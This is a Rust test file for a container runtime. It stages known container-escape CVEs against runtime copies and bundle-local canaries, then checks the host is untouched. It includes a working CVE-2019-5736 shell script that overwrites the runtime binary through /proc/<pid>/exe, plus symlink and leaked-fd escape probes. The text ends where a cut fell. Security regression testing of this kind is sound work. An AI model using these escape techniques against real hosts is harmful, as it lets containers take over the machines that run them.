//! Known container-escape attacks on runtimes, each carried out by a real container against
//! the runtime under test, each followed by checks that the host is untouched.
//!
//! Every test keeps its canaries (files the attack aims at) under its own bundle directory,
//! never in shared host paths. Tests that change the rootfs use a private copy of the busybox
//! rootfs. Where runc 1.1.5 (`CASULO_TEST_RUNTIME=runc`) is known to be vulnerable, the test
//! says so with a visible `SKIPPED` line instead of asserting what that version gets wrong.
mod common;
use common::*;

use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::json;

// ---------------------------------------------------------------------------------------------
// Helpers

/// Give `b` a private, writable copy of the busybox rootfs at `<bundle>/rootfs`.
fn private_rootfs(b: &mut Bundle) -> PathBuf {
    let dst = b.dir.join("rootfs");
    let st = Command::new("cp")
        .arg("-a")
        .arg(rootfs())
        .arg(&dst)
        .status()
        .unwrap();
    assert!(st.success(), "copy the rootfs");
    b.config["root"] = json!({"path": dst, "readonly": false});
    b.save();
    dst
}

/// Drop the config's mount at `dest` (e.g. the tmpfs on /dev, so that the rootfs's own /dev
/// is what the runtime works in).
fn remove_mount(b: &mut Bundle, dest: &str) {
    b.config["mounts"]
        .as_array_mut()
        .unwrap()
        .retain(|m| m["destination"] != dest);
    b.save();
}

/// `exe --root ROOT <args...>` for bundle `b`, with the bundle dir as cwd.
fn cmd_with(exe: &Path, b: &Bundle, args: &[&str]) -> Command {
    let mut c = Command::new(exe);
    c.arg("--root")
        .arg(&b.root)
        .args(b.cgroup_flags())
        .args(args)
        .current_dir(&b.dir);
    c
}

fn rt_with(exe: &Path, b: &Bundle, args: &[&str]) -> Run {
    output_within(cmd_with(exe, b, args), Duration::from_secs(20))
}

/// Start a runtime command without waiting for it; its output goes to files in the bundle.
fn spawn_with(exe: &Path, b: &Bundle, args: &[&str], tag: &str) -> Child {
    cmd_with(exe, b, args)
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(b.dir.join(format!("{tag}.out"))).unwrap())
        .stderr(std::fs::File::create(b.dir.join(format!("{tag}.err"))).unwrap())
        .spawn()
        .expect("spawn runtime")
}

/// Wait (at most `limit`) for `path` to exist; its content.
fn wait_for_file(path: &Path, limit: Duration) -> Option<String> {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        if path.exists() {
            std::thread::sleep(Duration::from_millis(20));
            return std::fs::read_to_string(path).ok();
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    None
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

/// Lines of the host's mountinfo that mention `path`.
fn host_mounts_of(path: &Path) -> Vec<String> {
    read(Path::new("/proc/self/mountinfo"))
        .lines()
        .filter(|l| l.contains(path.to_str().unwrap()))
        .map(String::from)
        .collect()
}

/// The ELF interpreter (PT_INTERP) of a 64-bit little-endian executable, if it has one.
fn elf_interp(bin: &[u8]) -> Option<PathBuf> {
    if bin.len() < 64 || &bin[..4] != b"\x7fELF" || bin[4] != 2 || bin[5] != 1 {
        return None;
    }
    let u16_at = |o: usize| u16::from_le_bytes(bin[o..o + 2].try_into().unwrap()) as usize;
    let u32_at = |o: usize| u32::from_le_bytes(bin[o..o + 4].try_into().unwrap());
    let u64_at = |o: usize| u64::from_le_bytes(bin[o..o + 8].try_into().unwrap()) as usize;
    let (phoff, phentsize, phnum) = (u64_at(0x20), u16_at(0x36), u16_at(0x38));
    (0..phnum).find_map(|i| {
        let ph = phoff + i * phentsize;
        if u32_at(ph) != 3 {
            return None;
        }
        let (off, size) = (u64_at(ph + 8), u64_at(ph + 0x20));
        let raw = bin.get(off..off + size)?;
        let s = std::str::from_utf8(raw).ok()?.trim_end_matches('\0');
        Some(PathBuf::from(s))
    })
}

/// The /proc/<pid>/fd links of a host process once it runs busybox (a runtime may return
/// before its child's execve has closed the runtime's fds): (fd, target).
fn fd_links(pid: i64) -> Vec<(u32, String)> {
    let deadline = Instant::now() + Duration::from_secs(5);
    while !std::fs::read_link(format!("/proc/{pid}/exe"))
        .is_ok_and(|e| e.to_string_lossy().ends_with("/busybox"))
    {
        assert!(Instant::now() < deadline, "pid {pid} never exec'd busybox");
        std::thread::sleep(Duration::from_millis(5));
    }
    let mut out: Vec<(u32, String)> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .flatten()
        .filter_map(|e| {
            let n = e.file_name().to_string_lossy().parse().ok()?;
            let t = std::fs::read_link(e.path()).ok()?;
            Some((n, t.to_string_lossy().into_owned()))
        })
        .collect();
    out.sort();
    out
}

/// The runtime under test as a path (`CASULO_TEST_RUNTIME=runc` is looked up in PATH).
fn runtime_path() -> PathBuf {
    let rt = runtime();
    if rt.components().count() > 1 {
        return rt;
    }
    std::env::var_os("PATH")
        .and_then(|paths| {
            std::env::split_paths(&paths)
                .map(|d| d.join(&rt))
                .find(|p| p.is_file())
        })
        .unwrap_or(rt)
}

fn skipped_vulnerable(test: &str, cve: &str, what: &str) {
    eprintln!("SKIPPED {test}: runc 1.1.5 is vulnerable to {cve} ({what})");
}

// ---------------------------------------------------------------------------------------------
// 1. CVE-2019-5736: the host runtime binary overwritten through /proc/<pid>/exe.

/// The attacker, as a busybox shell script. It turns the container's `/bin/sh` into a
/// `#!/proc/self/exe` script, so that a runtime that execs `/bin/sh` as the container's process
/// runs *its own executable* inside the container. To hold that process long enough, the
/// image's dynamic loader (any glibc image has one) is made to block: `/etc/ld.so.preload`
/// becomes a fifo. The attacker then looks for a container process whose executable is not
/// busybox, opens it read-only through `/proc/<pid>/exe`, kills it and reopens the open file
/// for writing through `/proc/self/fd/7` — which, for a runtime that runs from its host path,
/// overwrites the host binary.
const EXE_ATTACKER: &str = r#"
log() { echo "$*" >> /out/log; }
mkfifo /etc/ld.so.preload
rm -f /bin/sh
printf '#!/proc/self/exe\n' > /bin/sh
chmod 755 /bin/sh
echo ready > /out/ready
end=$(( $(date +%s) + 15 ))
while [ "$(date +%s)" -lt "$end" ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    exe=$(readlink "$d/exe" 2>/dev/null) || continue
    case "$exe" in */busybox) continue;; esac
    log "target pid $p exe $exe"
    if (exec 7<"$d/exe") 2>/dev/null; then
      exec 7<"$d/exe"
      log "opened the target's executable read-only"
    else
      log "could not open the target's executable"
    fi
    kill -9 "$p"
    i=0
    while [ "$i" -lt 60 ]; do
      if (printf '#!/bin/sh\necho PWNED\n' > "/proc/$$/fd/7") 2>/dev/null; then
        log "OVERWROTE the target's executable"
        break
      fi
      i=$((i+1))
      sleep 0.05
    done
    [ "$i" -ge 60 ] && log "write through /proc/$$/fd/7 failed: $( (: > "/proc/$$/fd/7") 2>&1 )"
    echo done > /out/done
    exec sleep 1000
  done
done
echo "no target seen" >> /out/log
echo done > /out/done
exec sleep 1000
"#;

/// A bundle whose pid 1 is [`EXE_ATTACKER`], with a private rootfs that holds the host's
/// dynamic loader (as any distribution image does), and a copy of the runtime to attack.
/// Returns (bundle, out dir, runtime copy, original runtime bytes).
fn exe_attack_setup(name: &str) -> (Bundle, PathBuf, PathBuf, Vec<u8>) {
    let mut b = Bundle::new(name, &["/bin/busybox", "sh", "-c", EXE_ATTACKER]);
    let rootfs = private_rootfs(&mut b);
    let out = b.with_out_dir();
    let original = std::fs::read(runtime_path()).unwrap();
    let copy = b.dir.join("runtime-copy");
    // Written by cp(1), not by this process: a write fd of ours would be inherited by the
    // forks of tests running in parallel and make exec of the copy fail with ETXTBSY.
    let cp = Command::new("cp")
        .arg(runtime_path())
        .arg(&copy)
        .status()
        .unwrap();
    assert!(cp.success(), "cp of the runtime failed");
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
    if let Some(interp) = elf_interp(&original) {
        let host = std::fs::canonicalize(&interp).unwrap();
        let inside = rootfs.join(interp.strip_prefix("/").unwrap());
        std::fs::create_dir_all(inside.parent().unwrap()).unwrap();
        // cp(1) for the same reason as above: the loader is executed in the container.
        let cp = Command::new("cp").arg(&host).arg(&inside).status().unwrap();
        assert!(cp.success(), "cp of the dynamic loader failed");
    }
    (b, out, copy, original)
}

/// After the attack: the runtime copy must be byte for byte what it was.
fn assert_runtime_untouched(copy: &Path, original: &[u8], out: &Path) {
    let log = read(&out.join("log"));
    eprintln!("attacker's log:\n{log}");
    let now = std::fs::read(copy).unwrap();
    assert!(
        now == original,
        "the host runtime binary was overwritten from inside the container ({} bytes now, {} \
         before); attacker's log:\n{log}",
        now.len(),
        original.len()
    );
    assert!(!log.contains("OVERWROTE"), "{log}");
}

#[test]
fn cve_2019_5736_exe_overwrite_during_exec() {
    if !can_run("cve_2019_5736_exe_overwrite_during_exec") {
        return;
    }
    let (b, out, copy, original) = exe_attack_setup("cve5736exec");
    let r = rt_with(
        &copy,
        &b,
        &[
            "run",
            "--detach",
            "--bundle",
            b.dir.to_str().unwrap(),
            &b.id,
        ],
    );
    assert!(r.ok(), "{}", r.stderr);
    assert!(
        wait_for_file(&out.join("ready"), Duration::from_secs(10)).is_some(),
        "the attacker did not get ready"
    );
    // The host runs a shell in the container: the runtime execs the container's /bin/sh.
    let mut exec = spawn_with(&copy, &b, &["exec", &b.id, "/bin/sh", "-c", "true"], "exec");
    let done = wait_for_file(&out.join("done"), Duration::from_secs(20));
    let _ = exec.kill();
    let _ = exec.wait();
    assert!(done.is_some(), "the attacker did not finish");
    assert_runtime_untouched(&copy, &original, &out);
}

#[test]
fn cve_2019_5736_exe_overwrite_during_run() {
    if !can_run("cve_2019_5736_exe_overwrite_during_run") {
        return;
    }
    // The attacker owns a pid namespace; a second container joins it (as the containers of a
    // pod with a shared pid namespace do) and its entrypoint is the container's /bin/sh.
    let (attacker, out, copy, original) = exe_attack_setup("cve5736attacker");
    let r = rt_with(
        &copy,
        &attacker,
        &[
            "run",
            "--detach",
            "--bundle",
            attacker.dir.to_str().unwrap(),
            &attacker.id,
        ],
    );
    assert!(r.ok(), "{}", r.stderr);
    assert!(
        wait_for_file(&out.join("ready"), Duration::from_secs(10)).is_some(),
        "the attacker did not get ready"
    );
    let pid = attacker.state().unwrap()["pid"].as_i64().unwrap();
    let mut victim = Bundle::new("cve5736run", &["/bin/sh"]);
    victim.config["root"] = attacker.config["root"].clone();
    for ns in victim.config["linux"]["namespaces"].as_array_mut().unwrap() {
        if ns["type"] == "pid" {
            ns["path"] = format!("/proc/{pid}/ns/pid").into();
        }
    }
    victim.save();
    let mut run = spawn_with(
        &copy,
        &victim,
        &[
            "run",
            "--detach",
            "--bundle",
            victim.dir.to_str().unwrap(),
            &victim.id,
        ],
        "run",
    );
    let done = wait_for_file(&out.join("done"), Duration::from_secs(20));
    let _ = run.kill();
    let _ = run.wait();
    assert!(done.is_some(), "the attacker did not finish");
    assert_runtime_untouched(&copy, &original, &out);
}

// ---------------------------------------------------------------------------------------------
// 2. CVE-2024-21626: a runtime fd, or a host working directory, reaching the container.

/// What the container's process runs with `process.cwd = /proc/self/fd/N`: where it is, and
/// whether climbing up from there reaches the host's view of the bundle's canary.
fn cwd_probe(canary: &Path) -> String {
    let rel = canary.strip_prefix("/").unwrap().display().to_string();
    format!(
        "echo \"getcwd=$(pwd -P 2>&1)\"; echo \"link=$(readlink /proc/self/cwd)\"; \
         cd ../../../../../../../../../../../..; \
         if cat ./{rel} 2>/dev/null; then echo ESCAPED; fi"
    )
}

/// The checks on one probe's output: a cwd inside the container, no host file read.
fn assert_cwd_inside(r: &Run, what: &str) {
    if !r.ok() {
        // Refused: nothing ran.
        return;
    }
    assert!(
        !r.stdout.contains("ESCAPED") && !r.stdout.contains("host-canary"),
        "{what}: the process reached the host: {}",
        r.stdout
    );
    for l in r.stdout.lines() {
        if let Some(p) = l
            .strip_prefix("getcwd=")
            .or_else(|| l.strip_prefix("link="))
        {
            assert!(
                p.starts_with('/') && !p.contains("unreachable"),
                "{what}: the process started outside its root ({l}): {}",
                r.stdout
            );
        }
    }
}

#[test]
fn cve_2024_21626_cwd_through_a_leaked_fd() {
    if !can_run("cve_2024_21626_cwd_through_a_leaked_fd") {
        return;
    }
    if !is_casulo() {
        skipped_vulnerable(
            "cve_2024_21626_cwd_through_a_leaked_fd",
            "CVE-2024-21626",
            "runc init leaks a host directory fd that process.cwd can name",
        );
        return;
    }
    let host = Bundle::new("cwdhost", &["sleep", "1000"]);
    let canary = host.dir.join("canary");
    std::fs::write(&canary, "host-canary\n").unwrap();
    let probe = cwd_probe(&canary);
    // At create: process.cwd names each fd a runtime might hold open.
    for n in 3..10 {
        let mut b = Bundle::new("cwdleak", &["sh", "-c", &probe]);
        b.config["process"]["cwd"] = format!("/proc/self/fd/{n}").into();
        b.save();
        let r = b.run();
        eprintln!(
            "cwd /proc/self/fd/{n}: status {:?}\n{}{}",
            r.status, r.stdout, r.stderr
        );
        assert_cwd_inside(&r, &format!("run with cwd /proc/self/fd/{n}"));
        assert!(!r.ok(), "a magic link as cwd was accepted: {}", r.stdout);
    }
    // At exec, into a running container.
    assert!(host.run_detached().ok());
    for n in 3..10 {
        let cwd = format!("/proc/self/fd/{n}");
        let r = host.rt(&["exec", "--cwd", &cwd, &host.id, "sh", "-c", &probe]);
        eprintln!(
            "exec --cwd {cwd}: status {:?}\n{}{}",
            r.status, r.stdout, r.stderr
        );
        assert_cwd_inside(&r, &format!("exec --cwd {cwd}"));
        assert!(!r.ok(), "a magic link as cwd was accepted: {}", r.stdout);
    }
    assert_eq!(read(&canary), "host-canary\n");
}

/// Whether an fd target seen from the host is one the container may hold: stdio (given by the
/// caller), pipes, sockets, anonymous inodes, or files inside its own root.
fn allowed_fd(fd: u32, target: &str, rootfs: &Path, preserved: &[(u32, &Path)]) -> bool {
    if fd <= 2 {
        return true;
    }
    if let Some((_, p)) = preserved.iter().find(|(n, _)| *n == fd) {
        return Path::new(target) == *p;
    }
    target.starts_with(rootfs.to_str().unwrap())
}

#[test]
fn cve_2024_21626_no_runtime_fd_reaches_the_container() {
    if !can_run("cve_2024_21626_no_runtime_fd_reaches_the_container") {
        return;
    }
    let mut b = Bundle::new("fdleak", &["sleep", "1000"]);
    let rootfs = private_rootfs(&mut b);
    let preserved = b.dir.join("preserved");
    let extra = b.dir.join("not-preserved");
    std::fs::write(&preserved, "fd 3\n").unwrap();
    std::fs::write(&extra, "fd 4\n").unwrap();
    // The caller holds fds 3 and 4 and preserves one: only fd 3 may reach the container.
    let mut c = b.shell("run --detach --preserve-fds 1 --bundle \"$2\" \"$3\" 3<\"$4\" 4<\"$5\"");
    c.arg(&b.dir).arg(&b.id).arg(&preserved).arg(&extra);
    let r = output_within(c, Duration::from_secs(20));
    assert!(r.ok(), "{}", r.stderr);
    let pid = b.state().unwrap()["pid"].as_i64().unwrap();
    let links = fd_links(pid);
    eprintln!("init fds: {links:?}");
    let keep = [(3, preserved.as_path())];
    for (fd, t) in &links {
        assert!(
            allowed_fd(*fd, t, &rootfs, &keep),
            "fd {fd} of the container's init points at {t}: {links:?}"
        );
    }
    assert!(
        links.iter().any(|(fd, _)| *fd == 3),
        "fd 3 was not preserved"
    );

    // The same from inside: every fd of pid 1 beyond stdio and the preserved one.
    let r = b.rt(&[
        "exec",
        &b.id,
        "sh",
        "-c",
        "for f in /proc/1/fd/*; do echo \"${f##*/} $(readlink $f)\"; done",
    ]);
    assert!(r.ok(), "{}", r.stderr);
    eprintln!("seen from inside:\n{}", r.stdout);
    for l in r.stdout.lines() {
        let (fd, t) = l.split_once(' ').unwrap();
        let fd: u32 = fd.parse().unwrap();
        assert!(
            fd <= 3,
            "pid 1 holds fd {fd} ({t}) beyond stdio and --preserve-fds"
        );
    }

    // An exec'd process, with and without a preserved fd.
    for (n, preserve) in [(0, "0"), (1, "1")] {
        let pidfile = b.dir.join(format!("exec{n}.pid"));
        let mut c = b.shell(
            "exec --detach --preserve-fds \"$2\" --pid-file \"$3\" \"$4\" sleep 1000 3<\"$5\" 4<\"$6\"",
        );
        c.arg(preserve)
            .arg(&pidfile)
            .arg(&b.id)
            .arg(&preserved)
            .arg(&extra);
        let r = output_within(c, Duration::from_secs(20));
        assert!(r.ok(), "{}", r.stderr);
        let epid: i64 = read(&pidfile).trim().parse().unwrap();
        let links = fd_links(epid);
        eprintln!("exec --preserve-fds {preserve} fds: {links:?}");
        let keep: &[(u32, &Path)] = if n == 1 { &keep } else { &[] };
        for (fd, t) in &links {
            assert!(
                allowed_fd(*fd, t, &rootfs, keep),
                "fd {fd} of an exec'd process points at {t}: {links:?}"
            );
        }
        assert_eq!(links.iter().any(|(fd, _)| *fd == 3), n == 1, "{links:?}");
        assert!(!links.iter().any(|(fd, _)| *fd > 3), "{links:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Symlinks in the rootfs: under mount destinations (CVE-2021-30465), at /dev/null for
//    masked paths (CVE-2025-31133), at /dev/console (CVE-2025-52565).

#[test]
fn cve_2021_30465_mount_destination_through_rootfs_symlinks() {
    if !can_run("cve_2021_30465_mount_destination_through_rootfs_symlinks") {
        return;
    }
    let mut b = Bundle::new("mntlink", &["true"]);
    let rootfs = private_rootfs(&mut b);
    let hostdir = b.dir.join("hostdir");
    let src = b.dir.join("src");
    std::fs::create_dir_all(&hostdir).unwrap();
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("marker"), "from-the-bundle\n").unwrap();
    std::fs::write(b.dir.join("srcfile"), "file-from-the-bundle\n").unwrap();
    // Names at the host's root that a runtime following `/mnt/root -> /` or `/mnt/up -> ../..`
    // on the host would create: unique to this test, only looked at (and removed if a
    // vulnerable runtime made them); the canary directory is the bundle's.
    let at_host_root = [
        PathBuf::from(format!("/{}-root", b.id)),
        PathBuf::from(format!("/{}-up", b.id)),
    ];
    let mnt = rootfs.join("mnt");
    symlink(&hostdir, mnt.join("abs")).unwrap(); // absolute host path of the canary dir
    symlink("../../hostdir", mnt.join("rel")).unwrap(); // relative way out of the rootfs
    symlink("/", mnt.join("root")).unwrap();
    symlink("../../../../../../../../../../..", mnt.join("up")).unwrap();
    let root_name = format!("{}-root", b.id);
    let up_name = format!("{}-up", b.id);
    let dests = [
        "/mnt/abs/evil-abs".to_string(),
        "/mnt/rel/evil-rel".to_string(),
        format!("/mnt/root/{root_name}"),
        format!("/mnt/up/{up_name}"),
    ];
    for d in &dests {
        b.add_mount(
            json!({"destination": d, "type": "bind", "source": src, "options": ["rbind", "ro"]}),
        );
    }
    let srcfile = b.dir.join("srcfile");
    b.add_mount(json!({"destination": "/mnt/abs/evil-file", "type": "bind",
               "source": srcfile, "options": ["bind", "ro"]}));
    let mut probe = String::new();
    for d in &dests {
        probe.push_str(&format!("cat {d}/marker; "));
    }
    probe.push_str("cat /mnt/abs/evil-file; cut -d' ' -f5 /proc/self/mountinfo");
    // The working directory goes through a link out of the rootfs too.
    probe.push_str("; touch ./cwd-was-here");
    b.config["process"]["args"] = json!(["sh", "-c", probe]);
    b.config["process"]["cwd"] = "/mnt/rel".into();
    b.save();
    let r = b.run();
    eprintln!("{}{}", r.stdout, r.stderr);
    // Cleanup first in case a vulnerable runtime did create them.
    let created: Vec<_> = at_host_root
        .iter()
        .filter(|p| p.exists())
        .cloned()
        .collect();
    for p in &created {
        let _ = std::fs::remove_dir(p);
    }
    assert!(created.is_empty(), "created on the host: {created:?}");
    let in_hostdir: Vec<_> = std::fs::read_dir(&hostdir).unwrap().flatten().collect();
    assert!(in_hostdir.is_empty(), "the canary dir got {in_hostdir:?}");
    assert!(host_mounts_of(&hostdir).is_empty());
    // The mounts were made, inside the rootfs, where the links point when resolved in it.
    assert!(r.ok(), "{}", r.stderr);
    assert_eq!(
        r.stdout.matches("from-the-bundle").count(),
        dests.len() + 1,
        "{}",
        r.stdout
    );
    // Seen from inside, the mount points are where the links lead within the rootfs.
    let points: Vec<&str> = r.stdout.lines().collect();
    for p in [
        format!("{}/evil-abs", hostdir.display()),
        format!("{}/evil-file", hostdir.display()),
        "/hostdir/evil-rel".to_string(),
        format!("/{root_name}"),
        format!("/{up_name}"),
    ] {
        assert!(
            points.contains(&p.as_str()),
            "no mount at {p}: {}",
            r.stdout
        );
    }
    let inside_abs = rootfs.join(hostdir.strip_prefix("/").unwrap());
    assert!(inside_abs.join("evil-abs").is_dir());
    assert!(rootfs.join("hostdir/cwd-was-here").exists());
    assert!(rootfs.join(&root_name).is_dir());
    assert!(rootfs.join(&up_name).is_dir());
}

#[test]
fn dotdot_in_mount_destinations_stays_in_the_rootfs() {
    if !can_run("dotdot_in_mount_destinations_stays_in_the_rootfs") {
        return;
    }
    let mut b = Bundle::new("dotdot", &["true"]);
    let rootfs = private_rootfs(&mut b);
    let hostdir = b.dir.join("hostdir");
    let src = b.dir.join("src");
    std::fs::create_dir_all(&hostdir).unwrap();
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("marker"), "from-the-bundle\n").unwrap();
    // Joined naively to the rootfs path, these land in <bundle>/hostdir.
    let deep = format!(
        "/../../../../../../../../../..{}/evil-deep",
        hostdir.display()
    );
    let dests = ["/../hostdir/evil".to_string(), deep];
    for d in &dests {
        b.add_mount(json!({"destination": d, "type": "bind", "source": src, "options": ["rbind"]}));
    }
    b.add_mount(
        json!({"destination": "/../hostdir/evil-tmpfs", "type": "tmpfs", "source": "tmpfs"}),
    );
    b.config["process"]["args"] = json!([
        "sh",
        "-c",
        format!(
            "cat /hostdir/evil/marker {}/evil-deep/marker && touch /hostdir/evil-tmpfs/x",
            hostdir.display()
        )
    ]);
    b.save();
    let r = b.run();
    eprintln!("{}{}", r.stdout, r.stderr);
    let in_hostdir: Vec<_> = std::fs::read_dir(&hostdir).unwrap().flatten().collect();
    assert!(in_hostdir.is_empty(), "the canary dir got {in_hostdir:?}");
    assert!(host_mounts_of(&hostdir).is_empty());
    assert!(r.ok(), "{}", r.stderr);
    assert_eq!(r.stdout.matches("from-the-bundle").count(), 2);
    assert!(rootfs.join("hostdir/evil").is_dir());
    assert!(rootfs
        .join(hostdir.strip_prefix("/").unwrap())
        .join("evil-deep")
        .is_dir());
}

#[test]
fn rootfs_given_as_a_symlink() {
    if !can_run("rootfs_given_as_a_symlink") {
        return;
    }
    // root.path comes from the bundle's owner, not from the container, and the spec only says
    // it is a path. Like runc 1.1.5 ("not an absolute path, or a symlink"), casulo refuses a
    // path with a symlink on the way, so the rootfs is always named by its real path.
    let mut b = Bundle::new("rootlink", &["sh", "-c", "echo inside > /tmp/written"]);
    let rootfs = private_rootfs(&mut b);
    let link = b.dir.join("rootfs-link");
    symlink(&rootfs, &link).unwrap();
    b.config["root"]["path"] = "rootfs-link".into();
    b.save();
    let r = b.run();
    eprintln!("status {:?}: {}", r.status, r.stderr);
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    assert!(!r.ok(), "a symlinked root.path was accepted");
    assert!(r.stderr.contains("symlink"), "{}", r.stderr);
    assert!(!rootfs.join("tmp/written").exists());
}

#[test]
fn bundle_reached_through_a_symlink() {
    if !can_run("bundle_reached_through_a_symlink") {
        return;
    }
    // The symlink rule is about root.path: a bundle directory named through a symlink (as
    // /var/run is /run) with a relative root.path runs, as with runc.
    let mut b = Bundle::new("bundlelink", &["true"]);
    private_rootfs(&mut b);
    b.config["root"]["path"] = "rootfs".into();
    b.save();
    let link = b.dir.with_extension("link");
    let _ = std::fs::remove_file(&link);
    symlink(&b.dir, &link).unwrap();
    let r = b.rt(&["run", "--bundle", link.to_str().unwrap(), &b.id]);
    let _ = std::fs::remove_file(&link);
    assert!(r.ok(), "{} {}", r.stdout, r.stderr);
}

/// Masked paths of the default spec that are files (masked with /dev/null) or directories
/// (masked with an empty read-only tmpfs).
const MASKED: [&str; 10] = [
    "/proc/acpi",
    "/proc/asound",
    "/proc/kcore",
    "/proc/keys",
    "/proc/latency_stats",
    "/proc/timer_list",
    "/proc/timer_stats",
    "/proc/sched_debug",
    "/sys/firmware",
    "/proc/scsi",
];

#[test]
fn cve_2025_31133_masked_paths_with_dev_null_a_symlink() {
    let test = "cve_2025_31133_masked_paths_with_dev_null_a_symlink";
    if !can_run(test) {
        return;
    }
    // Where the container's /dev/null points: a file of a read-only volume (inside view) and
    // the host path of that same file (a runtime following it before pivot_root). Never a
    // real host file such as /proc/sys/kernel/core_pattern: a vulnerable runtime (runc 1.1.5)
    // opens /dev/null read-write to replace the container's stdio, so the container would
    // hold a writable fd of it.
    for target in ["/hostdir/canary", "HOST"] {
        let mut probe = String::new();
        for p in MASKED {
            probe.push_str(&format!(
                "if [ -d {p} ]; then echo \"{p} dir $(ls -A {p} | wc -l)\"; \
                 elif [ -e {p} ]; then echo \"{p} $(stat -c '%F %t:%T' {p}) \
                 [$(head -c 16 {p} 2>/tmp/err | tr -cd 'a-z_|')]\"; fi; "
            ));
            probe.push_str(&format!(
                "if [ -f {p} ] && head -c 6 {p} 2>/tmp/err | grep -q canary; then \
                 echo pwned > {p} && echo WROTE {p}; fi; "
            ));
        }
        let probe = format!("{{ {probe} }} > /out/result 2>&1");
        let mut b = Bundle::new("devnull", &["sh", "-c", &probe]);
        let rootfs = private_rootfs(&mut b);
        let out = b.with_out_dir();
        remove_mount(&mut b, "/dev");
        let hostdir = b.dir.join("hostdir");
        std::fs::create_dir_all(&hostdir).unwrap();
        let canary = hostdir.join("canary");
        std::fs::write(&canary, "canary\n").unwrap();
        b.add_mount(
            json!({"destination": "/hostdir", "type": "bind", "source": hostdir,
                   "options": ["rbind", "ro"]}),
        );
        let dev_null = rootfs.join("dev/null");
        let _ = std::fs::remove_file(&dev_null);
        if target == "HOST" {
            symlink(&canary, &dev_null).unwrap();
        } else {
            symlink(target, &dev_null).unwrap();
        }
        let r = b.run();
        let result = read(&out.join("result"));
        eprintln!(
            "/dev/null -> {target}: status {:?}\n{result}{}",
            r.status, r.stderr
        );
        assert_eq!(read(&canary), "canary\n", "the host canary was written");
        assert!(host_mounts_of(&canary).is_empty());
        assert!(!result.contains("WROTE"), "{result}");
        if !r.ok() {
            // casulo refuses such a /dev/null outright; runc may refuse for reasons of its own.
            assert!(
                !is_casulo()
                    || r.stderr
                        .contains("/dev/null in the container is not the null device"),
                "/dev/null -> {target}: {}",
                r.stderr
            );
            continue;
        }
        // Started: then every masked path must be hidden by a real null device or tmpfs.
        let unmasked: Vec<&str> = result
            .lines()
            .filter(|l| !l.ends_with(" dir 0") && !l.contains("character special file 1:3 []"))
            .collect();
        if !is_casulo() && (!unmasked.is_empty() || !result.contains("/proc/keys")) {
            skipped_vulnerable(
                test,
                "CVE-2025-31133",
                "it binds whatever /dev/null resolves to over masked paths",
            );
            continue;
        }
        assert!(
            unmasked.is_empty(),
            "/dev/null -> {target}: not masked: {unmasked:?}"
        );
        assert!(result.contains("/proc/keys"), "{result}");
    }
}

#[test]
fn cve_2025_52565_dev_console_a_symlink() {
    let test = "cve_2025_52565_dev_console_a_symlink";
    if !can_run(test) {
        return;
    }
    // A file of a read-only volume, its host path, a file of a writable volume.
    for (target, ro) in [
        ("/hostdir/target", true),
        ("HOST", true),
        ("/hostdir/target", false),
    ] {
        let mut b = Bundle::new(
            "console",
            &[
                "sh",
                "-c",
                "{ stat -c '%F %t:%T' /hostdir/target; cat /hostdir/target; } > /out/result 2>&1",
            ],
        );
        let rootfs = private_rootfs(&mut b);
        remove_mount(&mut b, "/dev");
        let out = b.with_out_dir();
        let hostdir = b.dir.join("hostdir");
        std::fs::create_dir_all(&hostdir).unwrap();
        let host_target = hostdir.join("target");
        std::fs::write(&host_target, "host-target\n").unwrap();
        b.add_mount(
            json!({"destination": "/hostdir", "type": "bind", "source": hostdir,
                   "options": ["rbind", if ro { "ro" } else { "rw" }]}),
        );
        b.config["process"]["terminal"] = true.into();
        b.save();
        let console = rootfs.join("dev/console");
        let _ = std::fs::remove_file(&console);
        if target == "HOST" {
            symlink(&host_target, &console).unwrap();
        } else {
            symlink(target, &console).unwrap();
        }
        let sock = b.dir.join("console.sock");
        let receiver = console_socket(&sock);
        let r = b.rt(&[
            "run",
            "--detach",
            "--console-socket",
            sock.to_str().unwrap(),
            "--bundle",
            b.dir.to_str().unwrap(),
            &b.id,
        ]);
        let result = if r.ok() {
            wait_for_file(&out.join("result"), Duration::from_secs(10)).unwrap_or_default()
        } else {
            String::new()
        };
        let master = receiver.join().unwrap();
        eprintln!(
            "/dev/console -> {target} (ro {ro}): status {:?}, pty master received: {}\n{}{}",
            r.status,
            master.is_some(),
            result,
            r.stderr
        );
        if !is_casulo() && r.ok() && !result.starts_with("regular") {
            // runc 1.1.5 opens what /dev/console resolves to (truncating the volume's file)
            // and mounts the pty over it.
            skipped_vulnerable(
                test,
                "CVE-2025-52565",
                "it opens and mounts the pty over whatever /dev/console resolves to",
            );
            continue;
        }
        assert_eq!(read(&host_target), "host-target\n");
        assert!(host_mounts_of(&host_target).is_empty());
        if is_casulo() {
            assert!(!r.ok(), "a symlink at /dev/console was accepted");
            assert!(r.stderr.contains("symlink"), "{}", r.stderr);
        } else if r.ok() {
            assert!(result.starts_with("regular file"), "{result}");
            assert!(result.contains("host-target"), "{result}");
        }
        drop(master);
    }
}

// ---------------------------------------------------------------------------------------------
// 4. procfs writes redirected by a container-controlled mount (CVE-2025-52881,
//    CVE-2019-16884, CVE-2019-19921).

/// A fake procfs tree in the bundle: the files a runtime writes to, each holding "untouched".
fn fake_proc(dir: &Path) -> Vec<PathBuf> {
    let files = [
        "self/oom_score_adj",
        "self/attr/exec",
        "self/attr/current",
        "self/setgroups",
        "sys/kernel/shmmni",
        "sys/kernel/core_pattern",
        "sys/net/ipv4/ip_forward",
    ];
    files
        .iter()
        .map(|f| {
            let p = dir.join(f);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(&p, "untouched\n").unwrap();
            p
        })
        .collect()
}

#[test]
fn procfs_writes_are_not_redirected_by_container_mounts() {
